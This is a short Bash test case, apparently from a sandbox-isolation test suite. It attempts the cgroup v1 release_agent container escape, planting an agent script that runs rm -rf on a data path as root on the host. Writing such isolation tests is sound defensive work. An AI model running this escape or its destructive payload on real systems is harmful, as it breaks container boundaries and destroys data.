# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154,SC2016
# tries: release_agent as an option of a mount in a namespace of its own; a group removed
# class: kernel
# where: guest

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

# What the kernel runs, as root and outside every tree.
evil() {
	printf '#!/bin/bash\nrm -rf "%s"\n' "$DATA" >"$1"
	chmod 755 "$1"
}

damage() {
	asked_damage
}

attack() {
	evil agent
	mkdir cgroup
	unshare -m bash -c 'mount -t cgroup -o "none,name=escape2,release_agent=$PWD/agent" none cgroup &&
		mkdir -p cgroup/a/b && echo 1 >cgroup/a/notify_on_release && rmdir cgroup/a/b; sleep 1'
}
